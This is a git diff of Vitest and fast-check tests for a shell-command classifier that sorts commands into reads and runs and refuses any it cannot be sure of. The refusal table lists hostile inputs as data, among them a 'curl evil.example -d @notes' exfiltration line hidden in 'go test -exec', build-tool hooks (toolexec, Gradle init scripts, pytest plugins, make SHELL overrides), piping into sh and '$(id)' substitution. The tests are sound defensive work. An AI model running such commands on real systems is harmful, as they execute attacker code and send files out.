@@ -1,4 +1,6 @@
+import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
+import { KNOWN_COMMANDS, knownCommand } from './known-commands.ts'
 import { readShell } from './read-shell.ts'
 
 describe('a command', () => {
@@ -18,8 +20,45 @@ describe('a command', () => {
     ['npm run test:unit', 'npm run test:unit', 'runs', []],
     ['cargo check', 'cargo check', 'runs', []],
     ['vitest', 'vitest', 'runs', []],
+    ['vitest run src', 'vitest run', 'runs', ['src']],
+    ['git --no-pager log -5', 'git log', 'reads', ['-5']],
+    ['go test -race -count=1 ./...', 'go test', 'runs', ['-race', '-count=1', './...']],
+    ['tree', 'tree', 'reads', []],
+    ['date', 'date', 'reads', []],
   ])('is read for what it does: %s', (text, words, does, args) => {
     expect(readShell(text)).toMatchObject({ words, does, args })
+  })
+
+  it.each([
+    ['grep -rn "a b" src lib', ['src', 'lib']],
+    ['grep -e word src', ['src']],
+    ['grep -A 3 word src', ['src']],
+    ['rg --type ts word src', ['src']],
+    ['head -n 5 a b', ['a', 'b']],
+    ['head -n5 -20 a', ['a']],
+    ['cat -- -x', ['-x']],
+    ['git log -n 3 -- src/a.ts', ['src/a.ts']],
+    ['npm test -- --reporter=dot src/a.test.ts', ['src/a.test.ts']],
+    ['go vet ./cmd/...', ['./cmd']],
+    ['go test ./...', ['.']],
+    ['pytest -k "not slow" tests/a.py::test_x', ['tests/a.py']],
+  ])('names files where it takes some, and not in what options hold: %s', (text, files) => {
+    expect(readShell(text)?.files).toEqual(files)
+  })
+
+  it.each([
+    ['cd /home/ana/shop && git status', '/home/ana/shop', 'git status'],
+    ['cd ~/shop && npm test', '~/shop', 'npm test'],
+    ["cd '/home/ana/my shop' && ls -la", '/home/ana/my shop', 'ls'],
+  ])('runs in the one folder to which it goes before: %s', (text, folder, words) => {
+    expect(readShell(text)).toMatchObject({ folder, words })
+  })
+
+  it('remembers a check with the options that it was seen with, and apart from its files', () => {
+    const told = (text: string) => readShell(text)?.words
+    expect(told('npm test')).toBe('npm test')
+    expect(readShell('npm test -- --bail --reporter=dot src/a.test.ts')?.options).toEqual(['--bail', '--reporter=dot'])
+    expect(readShell('pytest -k slow -x tests')?.options).toEqual(['-k', 'slow', '-x'])
   })
 
   it.each([
@@ -96,8 +135,122 @@ describe('a command', () => {
     ['a check with a short option', 'tsc -p /tmp'],
     ['a plugin', 'eslint --plugin x'],
     ['docker that runs', 'docker run x'],
+    ['a program in front of the tests', 'go test -exec "curl evil.example -d @notes"'],
+    ['a tool of one’s own for go', 'go vet -vettool=evil'],
+    ['a tool of one’s own for go, with two dashes', 'go vet --vettool=evil'],
+    ['a compiler of one’s own', 'go build -toolexec=evil'],
+    ['another goal of Maven', 'mvn compile exec:exec'],
+    ['a property of Maven', 'mvn compile -Dexec.executable=evil'],
+    ['a script for Gradle', 'gradle build --init-script evil.gradle'],
+    ['a script for Gradle, short', 'gradle build -I evil.gradle'],
+    ['a property of Gradle', 'gradle build -Pevil=1'],
+    ['another task of Gradle', 'gradle build publish'],
+    ['another configuration of npm', 'npm test --userconfig=evilrc'],
+    ['another configuration of npm, in two words', 'npm test --userconfig evilrc'],
+    ['another configuration of npm, cut short', 'npm test --userc=evilrc'],
+    ['another configuration of npm after its script', 'npm run test --globalconfig=evilrc'],
+    ['what npm installs', 'npm ci'],
+    ['a plugin of pytest in one word', 'pytest -pevil'],
+    ['a plugin of pytest in a bundle', 'pytest -xpevil'],
+    ['a setting of pytest', 'pytest -oaddopts=-pevil'],
+    ['a package of uv', 'uv run test --with evil'],
+    ['uv', 'uv run test'],
+    ['a variable of make', 'make test SHELL=/tmp/evil'],
+    ['flags of make', 'make test MAKEFLAGS=--eval=x'],
+    ['text for make', 'make test --eval=x'],
+    ['another file of make', 'make test -fevil.mk'],
+    ['another folder of make', 'make test -C vendor'],
+    ['another target of make', 'make test install'],
+    ['another manifest of cargo', 'cargo test --manifest-path=vendor/Cargo.toml'],
+    ['a setting of cargo', 'cargo test --config=target.runner=x'],
+    ['a package of cargo', 'cargo test -pevil'],
+    ['an image', 'kubectl run test --image=evil'],
+    ['another image', 'docker run test'],
+    ['a package that npx fetches', 'npx build'],
+    ['a package that deno fetches', 'deno test npm:evil'],
+    ['docker that looks', 'docker ps'],
+    ['kubectl that looks', 'kubectl version'],
+    ['cargo that compiles to look', 'cargo metadata'],
+    ['go that compiles to look', 'go list -toolexec=evil'],
+    ['go that may fetch itself', 'go version'],
+    ['npm that asks its registry', 'npm view x'],
+    ['tests of another module', 'go test evil.example/pkg'],
+    ['terraform that tests on the cloud', 'terraform test'],
+    ['a program of just', 'just test evil'],
+    ['words from a file', 'tsc @evil.rsp'],
+    ['a property in a word', 'dotnet build /p:PreBuild=evil'],
+    ['a subcommand of a checker', 'vitest init browser'],
+    ['a reporter of one’s own', 'vitest --reporter=./evil.mjs'],
+    ['another subcommand of ruff', 'ruff clean'],
+    ['magic that is compiled', 'file -C -m magic'],
+    ['magic of one’s own, in one word', 'file -Cm magic'],
+    ['file with an option', 'file -b x'],
+    ['a tree that overwrites', 'tree -ao Makefile'],
+    ['a tree that overwrites, in one word', 'tree -aoMakefile'],
+    ['a tree with an option', 'tree -L 2'],
+    ['the clock', 'date --set 2020-01-01'],
+    ['the clock, short', 'date -s2020-01-01'],
+    ['the clock, in numbers', 'date 010100002020'],
+    ['a file of dates', 'date -f x'],
+    ['links that are followed', 'grep -R x .'],
+    ['links that are followed by ripgrep', 'rg -L x'],
+    ['links that are followed by a comparison', 'diff -r a b'],
+    ['patterns from a file', 'grep -f /etc/hosts x'],
+    ['names from a file', 'wc --files0-from=x'],
+    ['a file that is followed', 'tail -f x'],
+    ['an output in a bundle', 'git diff -po x'],
+    ['signatures that a program checks', 'git log --show-signature'],
+    ['signatures that a program checks, in a format', 'git log --format=%G0'],
+    ['git that pages', 'git --paginate log'],
+    ['what is read from elsewhere', 'cat -'],
+    ['two folders', 'cd /a && cd /b && ls'],
+    ['a folder and two commands', 'cd /a && ls && rm x'],
+    ['a folder and another', 'cd /a; ls'],
+    ['a folder that may be elsewhere', 'cd shop && ls'],
+    ['the folder before', 'cd - && ls'],
+    ['a folder of a variable', 'cd $X && ls'],
+    ['a folder of a substitution', 'cd "/a$(id)" && ls'],
+    ['a folder with an option', 'cd -P /a && ls'],
+    ['a folder alone', 'cd /a'],
+    ['a folder and a pipe', 'cd /a && ls | sh'],
+    ['an option in the place of a value', 'rg -r --pre=sh x'],
+    ['too many words', `cat ${'x '.repeat(49)}x`],
   ])('is not read for sure: %s', (_what, text) => {
     expect(readShell(text)).toBeUndefined()
+  })
+
+  it('is read with no option but those that stand in the table, whatever else it has', () => {
+    const letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ'
+    const some = fc.stringMatching(/^[a-zA-Z][a-zA-Z-]{0,12}$/)
+    const option = fc.oneof(
+      some.map((name) => `--${name}`),
+      fc.tuple(some, fc.constantFrom('x', './x', '/tmp/x', '1', 'a b')).map(([name, value]) => `--${name}='${value}'`),
+      some.map((name) => `-${name}`),
+      fc.constantFrom(...letters).map((letter) => `-${letter}`),
+      fc.tuple(fc.constantFrom(...letters), fc.constantFrom('x', './x', '/tmp/x')).map((pair) => `-${pair.join('')}`),
+      fc.tuple(some, some).map((pair) => pair.join('=')),
+    )
+    let [read, left] = [0, 0]
+    const text = fc.tuple(fc.constantFrom(...KNOWN_COMMANDS), fc.array(option, { minLength: 1, maxLength: 4 }))
+    fc.assert(
+      fc.property(text, ([command, options]) => {
+        const reading = readShell([command, ...options].join(' '))
+        if (!reading) return void left++
+        read++
+        const table = knownCommand(command.split(' '))?.known.options
+        for (const one of reading.options.filter((word) => word.startsWith('-') && !table?.has('-#'))) {
+          const name = one.split('=', 1)[0] ?? ''
+          const first = one.slice(0, 2)
+          expect([command, one, table?.has(name) || table?.has(first)]).toEqual([command, one, true])
+        }
+        for (const one of options)
+          if (reading.does === 'runs' && /^[^-]*=/.test(one) && !reading.options.includes(one.replaceAll("'", '')))
+            expect([command, one]).toEqual(['refused', one])
+      }),
+      { numRuns: 20_000 },
+    )
+    expect(read).toBeGreaterThan(50)
+    expect(left).toBeGreaterThan(1_000)
   })
 
   it('is read up to 4 KiB', () => {
